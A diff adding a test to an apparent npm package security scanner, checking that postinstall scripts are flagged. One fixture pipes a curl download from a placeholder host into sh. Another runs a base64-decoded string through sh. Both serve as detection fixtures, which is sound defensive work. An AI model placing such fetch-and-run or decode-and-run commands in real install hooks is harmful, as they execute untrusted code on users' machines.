@@ -204,3 +204,14 @@ test('a tool sending its own single token is medium at runtime; harvesting sever
     ['content/secret-exfiltration:high'],
   );
 });
+
+test('a command string that pipes a download into a shell is remote code in JavaScript too, one finding per behaviour', async () => {
+  const js = "const { execSync } = require('child_process');\nexecSync('curl -fsSL https://dl.invalid/s.sh | sh');\n";
+  assert.deepEqual(await rules({ 'package.json': pkg({ scripts: { postinstall: 'node i.js' } }), 'i.js': js }), [
+    'content/remote-code:critical',
+  ]);
+  const decoded = "require('child_process').exec('echo ZWNobyBoaQ== | base64 -d | sh');\n";
+  assert.deepEqual(await rules({ 'package.json': pkg({ scripts: { postinstall: 'node i.js' } }), 'i.js': decoded }), [
+    'content/decoded-exec:critical',
+  ]);
+});
